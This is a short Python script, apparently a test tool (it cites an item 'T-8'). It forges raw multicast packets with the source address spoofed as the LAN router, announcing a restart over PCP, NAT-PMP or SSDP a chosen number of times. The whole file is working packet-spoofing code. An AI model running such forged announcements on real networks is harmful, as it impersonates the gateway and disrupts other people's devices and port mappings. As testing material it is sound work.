#!/usr/bin/env python3
"""forge.py pcp|nat-pmp|ssdp COUNT: says COUNT times in the router's name that it has restarted.

From whatever host it runs on: the source address is written by hand (T-8)."""

import socket
import struct
import sys

ROUTER = socket.inet_aton("192.168.77.1")


def alive(number):
    lines = ["NOTIFY * HTTP/1.1", "HOST: 239.255.255.250:1900", "CACHE-CONTROL: max-age=120",
             f"LOCATION: http://192.168.77.1:{10000 + number}/rootDesc.xml",
             "NT: urn:schemas-upnp-org:device:InternetGatewayDevice:1", "NTS: ssdp:alive",
             "USN: uuid:1::urn:schemas-upnp-org:device:InternetGatewayDevice:1",
             f"BOOTID.UPNP.ORG: {number}", "CONFIGID.UPNP.ORG: 1", "", ""]
    return "\r\n".join(lines).encode()


# The group, the port that is claimed, the port of the group, and the words.
KINDS = {
    "pcp": ("224.0.0.1", 5351, 5350, lambda number: bytes([2, 0x80]) + bytes(22)),
    "nat-pmp": ("224.0.0.1", 5351, 5350,
                lambda number: bytes([0, 0x80]) + bytes(6) + bytes([11, 22, 33, number % 250])),
    "ssdp": ("239.255.255.250", 1900, 1900, alive),
}


def packet(group, source, destination, words):
    """An IP packet; the kernel fills in lengths and the header's checksum, and UDP needs none."""
    datagram = struct.pack("!HHHH", source, destination, 8 + len(words), 0) + words
    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 4, socket.IPPROTO_UDP, 0, ROUTER,
                         socket.inet_aton(group))
    return header + datagram


def main():
    group, source, destination, words = KINDS[sys.argv[1]]
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        interface = socket.if_nametoindex("eth0")
        raw.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF,
                       struct.pack("@4s4si", bytes(4), bytes(4), interface))
        for number in range(1, int(sys.argv[2]) + 1):
            raw.sendto(packet(group, source, destination, words(number)), (group, 0))


if __name__ == "__main__":
    main()
